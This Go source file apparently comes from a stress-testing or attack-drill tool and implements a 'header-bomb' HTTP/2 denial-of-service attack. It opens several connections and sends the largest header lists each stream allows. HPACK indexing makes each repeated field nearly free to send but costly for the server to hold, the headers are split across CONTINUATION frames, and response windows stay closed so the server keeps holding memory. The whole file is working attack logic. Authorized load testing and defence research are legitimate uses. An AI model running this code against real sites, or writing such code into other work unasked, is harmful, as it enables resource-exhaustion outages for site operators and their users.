package attack

import (
	"context"
	"net/netip"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"kontor/drill/browser"
)

func init() { kinds["header-bomb"] = newHeaderBomb }

// Bounds of a bomb. A field counts its name, its value and 32 bytes towards what
// the site announced that it takes (RFC 9113 §10.5.1), and is one byte on the
// wire once the site's table has it (RFC 7541 §6.1).
const (
	bombStreams  = 250
	bombUnsaid   = 1 << 20 // bytes of headers where the site announces no limit
	bombMost     = 4 << 20
	bombField    = 1 + 1 + 32
	bombFragment = 16 << 10 // bytes of a frame, the least that all sites take
)

// newHeaderBomb holds three connections, or as many as the scenario says, on
// which as many streams as the site takes ask with as many fields as it takes,
// and whose answers have no window: the site holds all of it while it waits.
func newHeaderBomb(p Params) (Attack, error) {
	if p.Connections == 0 {
		p.Connections = 3
	}
	if p.Addresses == 0 {
		p.Addresses = 3
	}
	return p.hold(func(ctx context.Context, t Target, from netip.Addr, _ uint64) (Outcome, error) {
		g, err := t.grip(ctx, from, both)
		if err != nil {
			return Broken, err
		}
		defer g.Close()
		f, err := g.frames(0)
		if err != nil {
			return Broken, err
		}
		if err := f.bomb(t, or(p.Path, "/")); err != nil {
			return Broken, err
		}
		last := Broken
		farewell := f.listen(func(_ uint32, o Outcome) { last = o }, func(uint32) {})
		if farewell {
			last = Refused
		}
		return last, nil
	})
}

// bomb sends all streams.
func (f *frames) bomb(t Target, path string) error {
	r := t.page(browser.Desk, path, "", nil)
	limit := int(f.site[http2.SettingMaxHeaderListSize])
	if limit == 0 {
		limit = bombUnsaid
	}
	own := 0
	for _, h := range r.fields {
		own += len(h.name) + len(h.value) + 32
	}
	fields := (min(limit, bombMost) - own - 4*64 - len(r.host) - len(r.path)) / bombField
	for id := uint32(1); id < 2*f.streams(bombStreams); id += 2 {
		if _, err := f.headers(&r, 0); err != nil {
			return err
		}
		for range fields {
			if err := f.enc.WriteField(hpack.HeaderField{Name: "a", Value: "b"}); err != nil {
				return err
			}
		}
		if err := f.split(id, f.block.Bytes()); err != nil {
			return err
		}
		if err := f.send(); err != nil {
			return err
		}
	}
	return nil
}

// split lays a request ready whose headers are longer than a frame.
func (f *frames) split(id uint32, block []byte) error {
	first := block[:min(len(block), bombFragment)]
	rest := block[len(first):]
	err := f.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: first, EndStream: true, EndHeaders: len(rest) == 0})
	for err == nil && len(rest) > 0 {
		piece := rest[:min(len(rest), bombFragment)]
		rest = rest[len(piece):]
		err = f.fr.WriteContinuation(id, len(rest) == 0, piece)
	}
	return err
}
